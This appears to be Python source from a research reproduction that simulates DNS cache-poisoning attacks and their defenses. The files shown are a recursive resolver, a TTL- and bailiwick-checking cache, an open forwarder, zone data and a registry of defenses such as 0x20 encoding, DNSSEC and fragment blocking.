            # Try the next server before giving up.
            self.server_index += 1
            self._send_query()
            return
        direct = [
            r for r in response.answers
            if names.same_name(r.name, self.qname)
            and (self.qtype == QTYPE_ANY or r.rtype == self.qtype
                 or r.rtype == TYPE_RRSIG)
        ]
        cnames = [
            r for r in response.answers
            if names.same_name(r.name, self.qname) and r.rtype == TYPE_CNAME
        ]
        if config.validates_dnssec and response.answers:
            if not validate_rrsets(response.answers, self.bailiwick,
                                   resolver.dnssec):
                resolver.stats.dnssec_failures += 1
                self.server_index += 1
                self._send_query()
                return
        if direct and (self.qtype == QTYPE_ANY or self.qtype == TYPE_CNAME
                       or any(r.rtype == self.qtype for r in direct)):
            cache_it = not (self.qtype == QTYPE_ANY
                            and config.any_caching != "cache")
            if cache_it:
                resolver.cache.put(response.answers, now,
                                   bailiwick=self.bailiwick,
                                   source=self.current_server)
            self._finish(RCODE_NOERROR,
                         [r for r in direct if r.rtype != TYPE_RRSIG])
            return
        if cnames:
            resolver.cache.put(cnames, now, bailiwick=self.bailiwick,
                               source=self.current_server)
            if self.depth >= config.max_cname_depth:
                self._finish(RCODE_SERVFAIL, [])
                return
            target = str(cnames[0].data)
            chained = [
                r for r in response.answers
                if names.same_name(r.name, target)
                and (r.rtype == self.qtype or self.qtype == QTYPE_ANY)
            ]
            if chained:
                resolver.cache.put(chained, now, bailiwick=self.bailiwick,
                                   source=self.current_server)
                self._finish(RCODE_NOERROR, list(cnames) + chained)
                return
            self._restart_for_cname(target, cnames)
            return
        ns_records = [r for r in response.authority if r.rtype == TYPE_NS]
        if ns_records and not response.authoritative:
            self._follow_referral(response, ns_records)
            return
        # Authoritative NOERROR with no matching answers: NODATA.
        self._finish(RCODE_NOERROR, [])

    def _restart_for_cname(self, target: str,
                           cnames: list[ResourceRecord]) -> None:
        resolver = self.resolver

        def on_target(result: ResolutionResult) -> None:
            records = list(cnames) + list(result.records)
            self._finish(result.rcode, records)

        resolver.resolve(target, self.qtype, on_target, depth=self.depth + 1)

    def _follow_referral(self, response: DnsMessage,
                         ns_records: list[ResourceRecord]) -> None:
        resolver = self.resolver
        config = resolver.config
        now = resolver.host.now
        child = names.normalise(ns_records[0].name)
        if not names.is_subdomain(child, self.bailiwick) \
                or names.normalise(child) == self.bailiwick:
            # Upward or sideways referral: treat as lame, try next server.
            self.server_index += 1
            self._send_query()
            return
        self.referrals += 1
        if self.referrals > config.max_referral_depth:
            self._finish(RCODE_SERVFAIL, [])
            return
        glue = [
            r for r in response.additional
            if r.rtype == TYPE_A and names.is_subdomain(r.name, child)
            and any(names.same_name(r.name, str(ns.data))
                    for ns in ns_records)
        ]
        resolver.cache.put(ns_records, now, bailiwick=self.bailiwick,
                           source=self.current_server)
        if glue:
            resolver.cache.put(glue, now, bailiwick=child,
                               source=self.current_server)
            addresses = [str(r.data) for r in glue]
        else:
            self._resolve_ns_addresses(ns_records, child)
            return
        self.bailiwick = child
        self.servers = addresses
        if config.ns_randomisation:
            resolver.rng.shuffle(self.servers)
        self.server_index = 0
        self.attempt = 0
        self._send_query()

    def _resolve_ns_addresses(self, ns_records: list[ResourceRecord],
                              child: str) -> None:
        """Out-of-bailiwick NS without glue: resolve the NS name first."""
        resolver = self.resolver
        target = str(ns_records[0].data)
        if self.depth >= resolver.config.max_cname_depth:
            self._finish(RCODE_SERVFAIL, [])
            return

        def on_ns(result: ResolutionResult) -> None:
            addresses = result.addresses()
            if not addresses:
                self._finish(RCODE_SERVFAIL, [])
                return
            self.bailiwick = child
            self.servers = addresses
            self.server_index = 0
            self.attempt = 0
            self._send_query()

        resolver.resolve(target, TYPE_A, on_ns, depth=self.depth + 1)

    def _finish(self, rcode: int, records: list[ResourceRecord]) -> None:
        if self.finished:
            return
        self.finished = True
        self._cancel_timer()
        self._close_socket()
        resolver = self.resolver
        if rcode == RCODE_SERVFAIL:
            resolver.stats.servfails += 1
        resolver.stats.resolutions += 1
        result = ResolutionResult(
            qname=self.qname, qtype=self.qtype, rcode=rcode,
            records=records, queries_sent=self.queries_sent,
            duration=resolver.host.now - self.started_at,
        )
        resolver._resolution_done(self)
        for callback in self.callbacks:
            callback(result)


class RecursiveResolver:
    """A caching recursive resolver with a client-facing service."""

    def __init__(self, host: Host, root_hints: list[str],
                 config: ResolverConfig | None = None,
                 dnssec: DnssecRegistry | None = None,
                 rng: DeterministicRNG | None = None):
        self.host = host
        self.root_hints = list(root_hints)
        self.config = config if config is not None else ResolverConfig()
        self.dnssec = dnssec if dnssec is not None else DnssecRegistry()
        self.rng = rng if rng is not None else DeterministicRNG(host.name)
        self.cache = DnsCache()
        self.stats = ResolverStats()
        self._inflight: dict[tuple[str, int], _Resolution] = {}
        self._fixed_socket: UdpSocket | None = None
        self.service_socket: UdpSocket = host.open_udp(
            DNS_PORT, self._on_client_query
        )
        host.stream_handlers[DNS_PORT] = self._on_client_stream

    # -- public API ----------------------------------------------------------

    @property
    def address(self) -> str:
        """Client-facing address of the resolver."""
        return self.host.address

    def resolve(self, qname: str, qtype: int, callback: ResolveCallback,
                depth: int = 0) -> None:
        """Resolve (qname, qtype), invoking ``callback`` with the result."""
        now = self.host.now
        cached = self.cache.get(qname, qtype, now)
        if cached is not None:
            direct = [r for r in cached if r.rtype == qtype
                      or qtype == QTYPE_ANY]
            if direct or not any(r.rtype == TYPE_CNAME for r in cached):
                self.stats.cache_answers += 1
                callback(ResolutionResult(
                    qname=qname, qtype=qtype, rcode=RCODE_NOERROR,
                    records=cached, from_cache=True,
                ))
                return
            # Cached CNAME: chase the target.
            target = str(cached[0].data)

            def on_target(result: ResolutionResult) -> None:
                callback(ResolutionResult(
                    qname=qname, qtype=qtype, rcode=result.rcode,
                    records=cached + result.records,
                    queries_sent=result.queries_sent,
                ))

            self.resolve(target, qtype, on_target, depth=depth + 1)
            return
        key = (names.normalise(qname), qtype)
        if self.config.dedup_inflight and key in self._inflight \
                and depth == 0:
            self._inflight[key].callbacks.append(callback)
            return
        task = _Resolution(self, qname, qtype, depth=depth)
        task.callbacks.append(callback)
        if depth == 0:
            self._inflight[key] = task
        task.start()

    def _resolution_done(self, task: _Resolution) -> None:
        key = (names.normalise(task.qname), task.qtype)
        if self._inflight.get(key) is task:
            del self._inflight[key]

    def inflight_count(self) -> int:
        """Number of live recursive lookups (ground truth for tests)."""
        return len(self._inflight)

    # -- client-facing service -------------------------------------------------

    def _client_allowed(self, src: str) -> bool:
        if self.config.open_to_world:
            return True
        from repro.netsim.addresses import ip_in_prefix

        return any(ip_in_prefix(src, prefix)
                   for prefix in self.config.allowed_clients)

    def _on_client_query(self, datagram: UdpDatagram, src: str,
                         dst: str) -> None:
        try:
            query = decode_message(datagram.payload)
        except Exception:
            return
        if query.is_response or query.question is None:
            return
        self.stats.client_queries += 1
        response_to = (src, datagram.sport)

        def send(response: DnsMessage) -> None:
            self.service_socket.sendto(
                response_to[0], response_to[1], encode_message(response)
            )

        if not self._client_allowed(src):
            self.stats.client_refused += 1
            refusal = query.reply_skeleton()
            refusal.rcode = RCODE_REFUSED
            send(refusal)
            return
        question = query.question
        if question.qtype == QTYPE_ANY \
                and self.config.any_caching == "refuse":
            reply = query.reply_skeleton()
            reply.rcode = RCODE_NOTIMP
            send(reply)
            return

        def on_result(result: ResolutionResult) -> None:
            reply = query.reply_skeleton()
            reply.recursion_available = True
            reply.rcode = result.rcode
            reply.answers.extend(result.records)
            send(reply)

        self.resolve_for_client(question, on_result)

    def resolve_for_client(self, question: Question,
                           callback: ResolveCallback) -> None:
        """Resolve on behalf of a client (ANY served from cache if possible)."""
        if question.qtype == QTYPE_ANY:
            cached = self.cache.get_any(question.name, self.host.now)
            if cached:
                self.stats.cache_answers += 1
                callback(ResolutionResult(
                    qname=question.name, qtype=QTYPE_ANY,
                    rcode=RCODE_NOERROR, records=cached, from_cache=True,
                ))
                return
        self.resolve(question.name, question.qtype, callback)

    def _on_client_stream(self, payload: bytes, src: str) -> bytes | None:
        # DNS-over-TCP service for clients; reuse the UDP logic minus
        # the socket plumbing by resolving synchronously-ish.
        try:
            query = decode_message(payload)
        except Exception:
            return None
        if query.question is None or not self._client_allowed(src):
            refusal = query.reply_skeleton()
            refusal.rcode = RCODE_REFUSED
            return encode_message(refusal)
        holder: dict[str, DnsMessage] = {}

        def on_result(result: ResolutionResult) -> None:
            reply = query.reply_skeleton()
            reply.recursion_available = True
            reply.rcode = result.rcode
            reply.answers.extend(result.records)
            holder["reply"] = reply

        self.resolve_for_client(query.question, on_result)
        if "reply" in holder:
            return encode_message(holder["reply"])
        # The lookup is asynchronous; a real TCP client would wait.  The
        # simulation answers SERVFAIL for not-yet-cached stream queries.
        pending = query.reply_skeleton()
        pending.rcode = RCODE_SERVFAIL
        return encode_message(pending)
