"""The resolver cache — the asset every attack in the paper targets.

Entries are RRSets keyed by (lowercased name, type), each with an absolute
expiry on the virtual clock.  Insertion enforces the *bailiwick* rule: a
record may only enter the cache if its owner name falls inside the zone
the responding server is authoritative for, which is why the paper's
attackers inject records for the victim domain itself rather than
arbitrary names.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field

from repro.dns import names
from repro.dns.records import QTYPE_ANY, ResourceRecord, TYPE_CNAME


@dataclass
class CacheEntry:
    """A cached RRSet plus bookkeeping."""

    records: list[ResourceRecord]
    expires_at: float
    inserted_at: float
    source: str = ""          # responding server address, for forensics
    poisoned: bool = False    # ground-truth flag set by attack harnesses

    def alive(self, now: float) -> bool:
        """True while the entry has remaining TTL."""
        return now < self.expires_at


@dataclass
class CacheStats:
    """Hit/miss accounting."""

    hits: int = 0
    misses: int = 0
    insertions: int = 0
    bailiwick_rejects: int = 0
    expirations: int = 0
    evictions: int = 0      # live entries displaced by a full cache


class DnsCache:
    """TTL- and bailiwick-respecting record cache."""

    def __init__(self, max_entries: int = 100_000):
        self.max_entries = max_entries
        self._entries: dict[tuple[str, int], CacheEntry] = {}
        self.stats = CacheStats()
        # Earliest expiry across current entries: lets a full insert
        # know whether an expired-entry sweep can free room at all.
        self._min_expiry = math.inf

    def __len__(self) -> int:
        return len(self._entries)

    def _key(self, name: str, rtype: int) -> tuple[str, int]:
        return (names.normalise(name), rtype)

    def get(self, name: str, rtype: int, now: float) -> list[ResourceRecord] | None:
        """Cached records for (name, type), following same-name CNAMEs."""
        entry = self._entries.get(self._key(name, rtype))
        if entry is not None:
            if entry.alive(now):
                self.stats.hits += 1
                return list(entry.records)
            del self._entries[self._key(name, rtype)]
            self.stats.expirations += 1
        if rtype != TYPE_CNAME and rtype != QTYPE_ANY:
            alias = self._entries.get(self._key(name, TYPE_CNAME))
            if alias is not None and alias.alive(now):
                self.stats.hits += 1
                return list(alias.records)
        self.stats.misses += 1
        return None

    def get_any(self, name: str, now: float) -> list[ResourceRecord]:
        """All live records cached under ``name`` regardless of type."""
        found: list[ResourceRecord] = []
        wanted = names.normalise(name)
        for (cached_name, _rtype), entry in list(self._entries.items()):
            if cached_name == wanted and entry.alive(now):
                found.extend(entry.records)
        return found

    def put(self, records: list[ResourceRecord], now: float,
            bailiwick: str | None = None, source: str = "",
            poisoned: bool = False) -> int:
        """Insert records grouped into RRSets; returns sets accepted.

        Records outside ``bailiwick`` are rejected (and counted), exactly
        as RFC 2181 trust rules demand.
        """
        from repro.dns.records import group_rrsets

        accepted = 0
        for rrset in group_rrsets(records):
            if bailiwick is not None and not names.is_subdomain(
                    rrset.name, bailiwick):
                self.stats.bailiwick_rejects += 1
                continue
            if len(self._entries) >= self.max_entries:
                self._make_room(now)
            key = self._key(rrset.name, rrset.rtype)
            expires_at = now + rrset.ttl
            self._entries[key] = CacheEntry(
                records=list(rrset.records),
                expires_at=expires_at,
                inserted_at=now,
                source=source,
                poisoned=poisoned,
            )
            if expires_at < self._min_expiry:
                self._min_expiry = expires_at
            self.stats.insertions += 1
            accepted += 1
        return accepted

    def _make_room(self, now: float) -> None:
        """Free at least one slot: sweep expired entries, else evict.

        The sweep runs only when the earliest expiry has passed, so a
        loaded cache pays O(n) once per expiry wave instead of per
        insert; when nothing is expired, the longest-resident entry is
        evicted in O(1) (dicts preserve insertion order).
        """
        if now >= self._min_expiry:
            expired = [key for key, entry in self._entries.items()
                       if not entry.alive(now)]
            for key in expired:
                del self._entries[key]
            self.stats.expirations += len(expired)
            self._min_expiry = min(
                (entry.expires_at for entry in self._entries.values()),
                default=math.inf)
            if expired:
                return
        oldest = next(iter(self._entries))
        del self._entries[oldest]
        self.stats.evictions += 1

    def entry(self, name: str, rtype: int) -> CacheEntry | None:
        """Raw entry access for tests and forensics (ignores TTL)."""
        return self._entries.get(self._key(name, rtype))

    def contains_poison(self, now: float) -> bool:
        """True if any live entry was inserted by an attack harness.

        Expired poison is spent ammunition — under TTL churn a planted
        record that already aged out must not count as a live
        compromise, so liveness is checked against ``now``.
        """
        return any(e.poisoned and e.alive(now)
                   for e in self._entries.values())

    def poisoned_names(self, now: float) -> set[str]:
        """Owner names of live poisoned entries (for measurement harnesses)."""
        return {
            key[0] for key, entry in self._entries.items()
            if entry.poisoned and entry.alive(now)
        }

    def flush(self) -> None:
        """Drop everything (operator remediation)."""
        self._entries.clear()
        self._min_expiry = math.inf
