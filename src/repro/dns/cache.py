"""The resolver cache — the asset every attack in the paper targets.

Entries are RRSets keyed by (lowercased name, type), each with an absolute
expiry on the virtual clock.  Insertion enforces the *bailiwick* rule: a
record may only enter the cache if its owner name falls inside the zone
the responding server is authoritative for, which is why the paper's
attackers inject records for the victim domain itself rather than
arbitrary names.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.dns import names
from repro.dns.records import QTYPE_ANY, ResourceRecord, TYPE_CNAME


@dataclass
class CacheEntry:
    """A cached RRSet plus bookkeeping."""

    records: list[ResourceRecord]
    expires_at: float
    inserted_at: float
    source: str = ""          # responding server address, for forensics
    poisoned: bool = False    # ground-truth flag set by attack harnesses

    def alive(self, now: float) -> bool:
        """True while the entry has remaining TTL."""
        return now < self.expires_at


@dataclass
class CacheStats:
    """Hit/miss accounting."""

    hits: int = 0
    misses: int = 0
    insertions: int = 0
    bailiwick_rejects: int = 0
    expirations: int = 0


class DnsCache:
    """TTL- and bailiwick-respecting record cache."""

    def __init__(self, max_entries: int = 100_000):
        self.max_entries = max_entries
        self._entries: dict[tuple[str, int], CacheEntry] = {}
        self.stats = CacheStats()

    def __len__(self) -> int:
        return len(self._entries)

    def _key(self, name: str, rtype: int) -> tuple[str, int]:
        return (names.normalise(name), rtype)

    def get(self, name: str, rtype: int, now: float) -> list[ResourceRecord] | None:
        """Cached records for (name, type), following same-name CNAMEs."""
        entry = self._entries.get(self._key(name, rtype))
        if entry is not None:
            if entry.alive(now):
                self.stats.hits += 1
                return list(entry.records)
            del self._entries[self._key(name, rtype)]
            self.stats.expirations += 1
        if rtype != TYPE_CNAME and rtype != QTYPE_ANY:
            alias = self._entries.get(self._key(name, TYPE_CNAME))
            if alias is not None and alias.alive(now):
                self.stats.hits += 1
                return list(alias.records)
        self.stats.misses += 1
        return None

    def get_any(self, name: str, now: float) -> list[ResourceRecord]:
        """All live records cached under ``name`` regardless of type."""
        found: list[ResourceRecord] = []
        wanted = names.normalise(name)
        for (cached_name, _rtype), entry in list(self._entries.items()):
            if cached_name == wanted and entry.alive(now):
                found.extend(entry.records)
        return found

    def put(self, records: list[ResourceRecord], now: float,
            bailiwick: str | None = None, source: str = "",
            poisoned: bool = False) -> int:
        """Insert records grouped into RRSets; returns sets accepted.

        Records outside ``bailiwick`` are rejected (and counted), exactly
        as RFC 2181 trust rules demand.
        """
        from repro.dns.records import group_rrsets

        accepted = 0
        for rrset in group_rrsets(records):
            if bailiwick is not None and not names.is_subdomain(
                    rrset.name, bailiwick):
                self.stats.bailiwick_rejects += 1
                continue
            if len(self._entries) >= self.max_entries:
                self._evict_oldest()
            key = self._key(rrset.name, rrset.rtype)
            self._entries[key] = CacheEntry(
                records=list(rrset.records),
                expires_at=now + rrset.ttl,
                inserted_at=now,
                source=source,
                poisoned=poisoned,
            )
            self.stats.insertions += 1
            accepted += 1
        return accepted

    def _evict_oldest(self) -> None:
        oldest = min(self._entries, key=lambda k: self._entries[k].inserted_at)
        del self._entries[oldest]

    def entry(self, name: str, rtype: int) -> CacheEntry | None:
        """Raw entry access for tests and forensics (ignores TTL)."""
        return self._entries.get(self._key(name, rtype))

    def contains_poison(self) -> bool:
        """True if any live entry was inserted by an attack harness."""
        return any(e.poisoned for e in self._entries.values())

    def poisoned_names(self) -> set[str]:
        """Owner names of poisoned entries (for measurement harnesses)."""
        return {
            key[0] for key, entry in self._entries.items() if entry.poisoned
        }

    def flush(self) -> None:
        """Drop everything (operator remediation)."""
        self._entries.clear()
