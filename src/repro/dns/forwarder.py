"""DNS forwarders: the open front-ends of the Internet's resolver fleet.

Section 4.3.3 of the paper shows that open *forwarders* are how an
attacker triggers queries on an otherwise closed recursive resolver: the
forwarder accepts anyone's query and relays it upstream, so poisoning the
upstream's cache becomes externally reachable.  A forwarder here is a
thin relay with an optional local cache, bound to its own host.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.rng import DeterministicRNG
from repro.dns.cache import DnsCache
from repro.dns.message import RCODE_SERVFAIL
from repro.dns.records import QTYPE_ANY
from repro.dns.wire import decode_message, encode_message
from repro.netsim.host import Host, UdpSocket
from repro.netsim.packet import UdpDatagram

DNS_PORT = 53


@dataclass
class ForwarderStats:
    """Relay accounting."""

    client_queries: int = 0
    forwarded: int = 0
    answered_from_cache: int = 0
    upstream_responses: int = 0


class Forwarder:
    """An open DNS forwarder relaying to one upstream recursive resolver."""

    def __init__(self, host: Host, upstream: str,
                 cache_responses: bool = True,
                 open_to_world: bool = True,
                 rng: DeterministicRNG | None = None):
        self.host = host
        self.upstream = upstream
        self.open_to_world = open_to_world
        self.cache = DnsCache() if cache_responses else None
        self.rng = rng if rng is not None else DeterministicRNG(host.name)
        self.stats = ForwarderStats()
        self._pending: dict[int, tuple[str, int, int]] = {}
        self.service_socket: UdpSocket = host.open_udp(
            DNS_PORT, self._on_client_query
        )
        self._upstream_socket: UdpSocket = host.open_udp(
            None, self._on_upstream_response
        )

    @property
    def address(self) -> str:
        """Client-facing address."""
        return self.host.address

    def _on_client_query(self, datagram: UdpDatagram, src: str,
                         dst: str) -> None:
        try:
            query = decode_message(datagram.payload)
        except Exception:
            return
        if query.is_response or query.question is None:
            return
        self.stats.client_queries += 1
        question = query.question
        if self.cache is not None and question.qtype != QTYPE_ANY:
            cached = self.cache.get(question.name, question.qtype,
                                    self.host.now)
            if cached is not None:
                self.stats.answered_from_cache += 1
                reply = query.reply_skeleton()
                reply.recursion_available = True
                reply.answers.extend(cached)
                self.service_socket.sendto(
                    src, datagram.sport, encode_message(reply)
                )
                return
        relay_txid = self.rng.pick_txid()
        self._pending[relay_txid] = (src, datagram.sport, query.txid)
        relayed = query.with_txid(relay_txid)
        self._upstream_socket.sendto(self.upstream, DNS_PORT,
                                     encode_message(relayed))
        self.stats.forwarded += 1

    def _on_upstream_response(self, datagram: UdpDatagram, src: str,
                              dst: str) -> None:
        if src != self.upstream:
            return
        try:
            response = decode_message(datagram.payload)
        except Exception:
            return
        pending = self._pending.pop(response.txid, None)
        if pending is None:
            return
        self.stats.upstream_responses += 1
        client_ip, client_port, client_txid = pending
        if self.cache is not None and response.answers:
            self.cache.put(response.answers, self.host.now, bailiwick=None,
                           source=src)
        reply = response.with_txid(client_txid)
        self.service_socket.sendto(client_ip, client_port,
                                   encode_message(reply))
