"""Authoritative zone data and the delegation hierarchy.

A :class:`Zone` is a bag of records under one origin plus delegation
(child NS) records; :class:`ZoneSet` is what one authoritative server
carries.  The full simulated namespace — root, TLDs, second-level
domains — is assembled by :class:`repro.testbed.Testbed` from these
pieces so resolvers perform genuine iterative resolution.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.dns import names
from repro.dns.records import (
    QTYPE_ANY,
    ResourceRecord,
    TYPE_NS,
    TYPE_RRSIG,
    TYPE_SOA,
    rr_rrsig,
    rr_soa,
)


@dataclass
class Zone:
    """One zone: origin, its records, and child delegations.

    ``signed`` marks the zone as DNSSEC-signed; on lookup, signed zones
    attach modelled RRSIGs so validating resolvers can check them.
    """

    origin: str
    records: list[ResourceRecord] = field(default_factory=list)
    signed: bool = False

    def __post_init__(self) -> None:
        self.origin = names.normalise(self.origin)
        if not any(r.rtype == TYPE_SOA for r in self.records):
            self.records.insert(0, rr_soa(
                self.origin or ".",
                f"ns1.{self.origin}" if self.origin else "a.root",
                f"hostmaster.{self.origin}" if self.origin else "nstld",
            ))

    def add(self, record: ResourceRecord) -> "Zone":
        """Add a record (chainable)."""
        if self.origin and not names.is_subdomain(record.name, self.origin):
            raise ValueError(
                f"record {record.name!r} outside zone {self.origin!r}"
            )
        self.records.append(record)
        return self

    def add_all(self, records: list[ResourceRecord]) -> "Zone":
        """Add several records (chainable)."""
        for record in records:
            self.add(record)
        return self

    def lookup(self, qname: str, qtype: int,
               _depth: int = 0) -> list[ResourceRecord]:
        """Records matching (qname, qtype); ANY returns every type.

        When the name owns a CNAME and the query asks for another type,
        the CNAME is returned and, if the target lives in this zone, the
        chain is chased server-side (RFC 1034 §3.6.2).
        """
        from repro.dns.records import TYPE_CNAME, rrset_digest

        wanted = names.normalise(qname)
        matched = [
            r for r in self.records
            if names.normalise(r.name) == wanted
            and (qtype == QTYPE_ANY or r.rtype == qtype)
            and r.rtype != TYPE_RRSIG
        ]
        if not matched and qtype not in (QTYPE_ANY, TYPE_CNAME) \
                and _depth < 8:
            aliases = [
                r for r in self.records
                if names.normalise(r.name) == wanted
                and r.rtype == TYPE_CNAME
            ]
            if aliases:
                target = str(aliases[0].data)
                chain = list(aliases)
                if self.signed:
                    chain.append(rr_rrsig(
                        qname, TYPE_CNAME, self.origin or ".",
                        digest=rrset_digest(aliases),
                    ))
                if names.is_subdomain(target, self.origin):
                    chain.extend(self.lookup(target, qtype,
                                             _depth=_depth + 1))
                return chain
        if self.signed and matched:
            from repro.dns.records import rrset_digest

            covered_types = {r.rtype for r in matched}
            matched = matched + [
                rr_rrsig(
                    qname, rtype, self.origin or ".",
                    digest=rrset_digest(
                        [r for r in matched if r.rtype == rtype]),
                )
                for rtype in sorted(covered_types)
            ]
        return matched

    def delegation_for(self, qname: str) -> tuple[str, list[ResourceRecord]] | None:
        """Child-zone NS records covering ``qname``, if delegated away.

        Returns (child origin, NS records) for the deepest delegation
        point between our origin and ``qname``, or None if ``qname`` is
        answered authoritatively here.
        """
        wanted = names.normalise(qname)
        if not names.is_subdomain(wanted, self.origin):
            return None
        best: tuple[str, list[ResourceRecord]] | None = None
        for record in self.records:
            if record.rtype != TYPE_NS:
                continue
            owner = names.normalise(record.name)
            if owner == self.origin:
                continue  # apex NS, not a delegation
            if names.is_subdomain(wanted, owner):
                if best is None or len(owner) > len(best[0]):
                    best = (owner, [])
        if best is None:
            return None
        child = best[0]
        ns_records = [
            r for r in self.records
            if r.rtype == TYPE_NS and names.normalise(r.name) == child
        ]
        return (child, ns_records)

    def has_name(self, qname: str) -> bool:
        """True if any record (of any type) exists at ``qname``."""
        wanted = names.normalise(qname)
        return any(names.normalise(r.name) == wanted for r in self.records)


class ZoneSet:
    """The zones one authoritative server carries, deepest-match lookup."""

    def __init__(self) -> None:
        self._zones: dict[str, Zone] = {}

    def add(self, zone: Zone) -> Zone:
        """Register a zone (origin must be unique on this server)."""
        if zone.origin in self._zones:
            raise ValueError(f"duplicate zone {zone.origin!r}")
        self._zones[zone.origin] = zone
        return zone

    def __iter__(self):
        return iter(self._zones.values())

    def __len__(self) -> int:
        return len(self._zones)

    def zone_for(self, qname: str) -> Zone | None:
        """The most specific zone whose origin contains ``qname``."""
        wanted = names.normalise(qname)
        best: Zone | None = None
        for origin, zone in self._zones.items():
            if names.is_subdomain(wanted, origin):
                if best is None or len(origin) > len(best.origin):
                    best = zone
        return best

    def get(self, origin: str) -> Zone | None:
        """Zone by exact origin."""
        return self._zones.get(names.normalise(origin))
