"""The Section 6 defenses, concrete and registered.

Each class packages one recommendation from the paper's Section 6 as a
:class:`repro.defenses.base.Defense`: the world-config transform that
deploys it, the planner facts it imposes, and the methodologies it is
expected to defeat (verified by the ablation grid in
:mod:`repro.experiments.ablation`).

The registry mirrors the scenario method registry: defenses resolve by
key or alias (``resolve_defense("0x20")``), and new defenses plug in
via :func:`register_defense` — immediately usable in
``AttackScenario(defenses=...)``, campaign grids, the planner and the
atlas deployment projection.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.defenses.base import Defense, DefenseError, DefenseStack, \
    WorldConfig
from repro.defenses.rov import RovDeployment
from repro.netsim.host import LINUX_MIN_PMTU

_REGISTRY: dict[str, Defense] = {}


def register_defense(defense: Defense) -> Defense:
    """Add a defense; its key and aliases become resolvable names."""
    for name in (defense.key, *defense.aliases):
        folded = name.lower()
        existing = _REGISTRY.get(folded)
        if existing is not None and existing.key != defense.key:
            raise DefenseError(
                f"defense name {name!r} already registered for"
                f" {existing.key}")
        _REGISTRY[folded] = defense
    return defense


def resolve_defense(name: "str | Defense") -> Defense:
    """Look up a defense by key or alias (instances pass through)."""
    if isinstance(name, Defense):
        return name
    defense = _REGISTRY.get(str(name).lower())
    if defense is None:
        known = ", ".join(available_defenses())
        raise DefenseError(
            f"unknown defense {name!r}; registered: {known}")
    return defense


def available_defenses() -> list[str]:
    """Canonical keys of all registered defenses."""
    return sorted({defense.key for defense in _REGISTRY.values()})


# -- DNS-layer challenges -------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Encoding0x20(Defense):
    """Randomise query-name case; forged responses miss the challenge."""

    key = "0x20-encoding"
    aliases = ("0x20",)
    layer = "dns"
    paper_section = "6.1"
    description = "randomise query-name case; responses must echo it"
    defeats = ("SadDNS",)
    writes = ("resolver.use_0x20",)

    def apply(self, config: WorldConfig) -> WorldConfig:
        return config.with_resolver(use_0x20=True)

    def profile_facts(self) -> dict[str, bool]:
        return {"resolver_uses_0x20": True}


@dataclass(frozen=True, slots=True)
class RandomizeRecords(Defense):
    """Shuffle answer records so second-fragment checksums are
    unpredictable (FragDNS must guess the permutation)."""

    key = "randomize-records"
    aliases = ("record-randomisation", "record-randomization")
    layer = "dns"
    paper_section = "6.1"
    description = "nameserver shuffles records; checksums unpredictable"
    defeats = ("FragDNS",)
    writes = ("ns.randomize_record_order",)

    def apply(self, config: WorldConfig) -> WorldConfig:
        return config.with_ns(randomize_record_order=True)

    def profile_facts(self) -> dict[str, bool]:
        return {"ns_randomizes_record_order": True}


@dataclass(frozen=True, slots=True)
class Dnssec(Defense):
    """Sign the target zone and validate at the resolver: off-path
    forgeries cannot carry valid RRSIGs, so all three methods die."""

    key = "dnssec"
    aliases = ()
    layer = "dns"
    paper_section = "2.1/6"
    description = "target zone signed and resolver validates"
    defeats = ("FragDNS", "HijackDNS", "SadDNS")
    writes = ("resolver.validates_dnssec", "world.signed_target")

    def apply(self, config: WorldConfig) -> WorldConfig:
        from dataclasses import replace

        return replace(config.with_resolver(validates_dnssec=True),
                       signed_target=True)

    def profile_facts(self) -> dict[str, bool]:
        return {"dnssec_validated": True}


# -- IP-layer fragment hygiene --------------------------------------------------


@dataclass(frozen=True, slots=True)
class BlockFragments(Defense):
    """Resolver-side firewall drops all IP fragments."""

    key = "block-fragments"
    aliases = ("drop-fragments",)
    layer = "ip"
    paper_section = "6.1"
    description = "resolver-side firewall drops all IP fragments"
    defeats = ("FragDNS",)
    writes = ("resolver_host.accept_fragments",)

    def apply(self, config: WorldConfig) -> WorldConfig:
        return config.with_resolver_host(accept_fragments=False)

    def profile_facts(self) -> dict[str, bool]:
        return {"resolver_accepts_fragments": False}


@dataclass(frozen=True, slots=True)
class PmtuClamp(Defense):
    """Refuse PTB-advertised MTUs below the clamp (modern Linux)."""

    key = "pmtu-clamp"
    aliases = ("min-pmtu",)
    layer = "ip"
    paper_section = "6.1"
    description = "nameserver refuses PTB-advertised MTUs below 552"
    defeats = ("FragDNS",)
    writes = ("ns_host.min_accepted_mtu",)

    min_mtu: int = LINUX_MIN_PMTU

    def apply(self, config: WorldConfig) -> WorldConfig:
        return config.with_ns_host(min_accepted_mtu=self.min_mtu)

    def profile_facts(self) -> dict[str, bool]:
        # DNS answers fit under the clamp: the attacker can no longer
        # force a response past the fragmentation floor.
        return {"response_can_exceed_frag_limit": False}


# -- transport-layer side-channel hygiene ---------------------------------------


@dataclass(frozen=True, slots=True)
class NoIcmpErrors(Defense):
    """Never emit ICMP port-unreachable: the port scan goes blind."""

    key = "no-icmp-errors"
    aliases = ("no-icmp",)
    layer = "transport"
    paper_section = "6.1"
    description = "resolver never sends ICMP port-unreachable"
    defeats = ("SadDNS",)
    writes = ("resolver_host.respond_port_unreachable",)

    def apply(self, config: WorldConfig) -> WorldConfig:
        return config.with_resolver_host(respond_port_unreachable=False)

    def profile_facts(self) -> dict[str, bool]:
        return {"resolver_global_icmp_limit": False}


@dataclass(frozen=True, slots=True)
class RandomizedIcmpLimit(Defense):
    """Jitter the global ICMP budget (the CVE-2020-25705 fix)."""

    key = "randomized-icmp-limit"
    aliases = ("icmp-jitter",)
    layer = "transport"
    paper_section = "6.1"
    description = "kernel randomises the global ICMP budget"
    defeats = ("SadDNS",)
    writes = ("resolver_host.icmp_limit_randomized",)

    def apply(self, config: WorldConfig) -> WorldConfig:
        return config.with_resolver_host(icmp_limit_randomized=True)

    def profile_facts(self) -> dict[str, bool]:
        return {"resolver_global_icmp_limit": False}


# -- BGP-layer origin validation ------------------------------------------------


@dataclass(frozen=True, slots=True)
class RpkiRov(Defense):
    """Route origin validation over published ROAs (RFC 6811).

    Unlike the old ``capture_possible`` shortcut, this goes through
    :mod:`repro.bgp.rpki`: the deployment publishes a ROA for the
    target nameserver prefix and the hijack announcement is validated
